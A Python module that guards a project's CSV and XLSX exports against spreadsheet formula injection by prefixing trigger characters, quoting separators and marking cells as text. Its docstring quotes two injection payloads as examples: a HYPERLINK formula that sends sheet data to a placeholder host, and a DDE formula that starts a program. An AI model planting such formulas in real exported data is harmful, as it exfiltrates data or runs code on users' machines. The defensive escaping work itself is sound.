"""Spreadsheet cells that cannot run: every CSV and XLSX bidrag writes goes through here.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel and LibreOffice: a payee's bank name ``=HYPERLINK("http://x?"&A1, "Klicka")``
sends the sheet's data away, ``=cmd|' /C calc'!A0`` starts a program (OWASP, "CSV Injection").
What the writers here do, as OWASP prescribes:

- **XLSX**: such a cell is written as a string (openpyxl would make any text starting with
  ``=`` a formula) with Excel's quote prefix, so it stays text even when the cell is edited.
- **CSV**: a text cell that starts with a trigger gets a leading apostrophe ``'``, which
  spreadsheets show as text; a text cell holding any separator a spreadsheet might split on
  (comma, semicolon, tab) or a quote or line break is quoted, whatever this file's delimiter,
  so that no part of it can become a cell of its own that starts with a trigger.

Numbers are never touched: an ``int``, ``Decimal`` or ``Fraction`` is written as a number, a
negative amount stays negative. Amounts we format ourselves ("-1234,50" for öre) are passed
as :class:`Number`. Text that is nothing but a number ("-5", "+46 8 123 45 67") cannot call
anything and is left as it is. Formulas we write on purpose (a total row's ``=SUM(...)``) are
passed as :class:`Formula`; no other cell becomes a formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from decimal import Decimal
from fractions import Fraction
from typing import IO, Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+\-\u2212]?\d[\d \u00a0\u202f]*(?:[.,]\d+)?")


class Number(str):
    """A number we formatted as text ("-1234,50"): written as it is, never neutralised."""


class Formula(str):
    """A formula bidrag writes on purpose (``=SUM(E2:E22)``); only these become formulas."""


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as a formula (see the module doc)."""
    return text.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text)


def neutralise(text: str) -> str:
    """``text`` with an apostrophe in front when it would be read as a formula."""
    return "'" + text if is_formula_like(text) else text


# CSV -------------------------------------------------------------------------------------


def _csv_field(value: Any, delimiter: str) -> str:
    if value is None:
        return ""
    if isinstance(value, Number | Formula):
        return str(value)
    if isinstance(value, bool):
        value = str(value)
    if isinstance(value, int | Decimal | Fraction | float):
        return str(value)
    text = neutralise(str(value))
    if any(ch in text for ch in _QUOTED):
        return '"' + text.replace('"', '""') + '"'
    return text


_QUOTED = frozenset(',;\t"\r\n')


class CsvWriter:
    """``csv.writer`` for files people open in a spreadsheet: ``writerow`` neutralises text
    cells and quotes those holding a separator (see the module doc); numbers are bare."""

    def __init__(self, out: IO[str], *, delimiter: str = ",", lineterminator: str = "\r\n"):
        self.out = out
        self.delimiter = delimiter
        self.lineterminator = lineterminator

    def writerow(self, row: Iterable[Any]) -> None:
        fields = (_csv_field(v, self.delimiter) for v in row)
        self.out.write(self.delimiter.join(fields) + self.lineterminator)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


# XLSX ------------------------------------------------------------------------------------


def xlsx_value(sheet: Worksheet, value: Any) -> Any:
    """What to put in a cell of ``sheet`` for ``value``: numbers and plain text as they are; a
    :class:`Formula` as a formula; text a spreadsheet would run as a string cell with a quote
    prefix. Characters XML cannot hold (C0 controls) become U+FFFD instead of an error."""
    if isinstance(value, Formula):
        return str(value)
    if isinstance(value, Number):
        return str(value)
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    if not is_formula_like(text):
        return text
    cell = Cell(sheet, row=1, column=1)  # append() and set_cell() put it in its place
    cell.value = text
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with every value through :func:`xlsx_value`."""
    sheet.append([xlsx_value(sheet, v) for v in values])


def set_cell(sheet: Worksheet, coordinate: str, value: Any) -> Any:
    """``sheet[coordinate] = value`` through :func:`xlsx_value`; returns the cell."""
    cell = sheet[coordinate]
    safe = xlsx_value(sheet, value)
    if isinstance(safe, Cell):
        cell.value = safe.value
        cell.data_type = "s"
        cell.quotePrefix = True
    else:
        cell.value = safe
    return cell
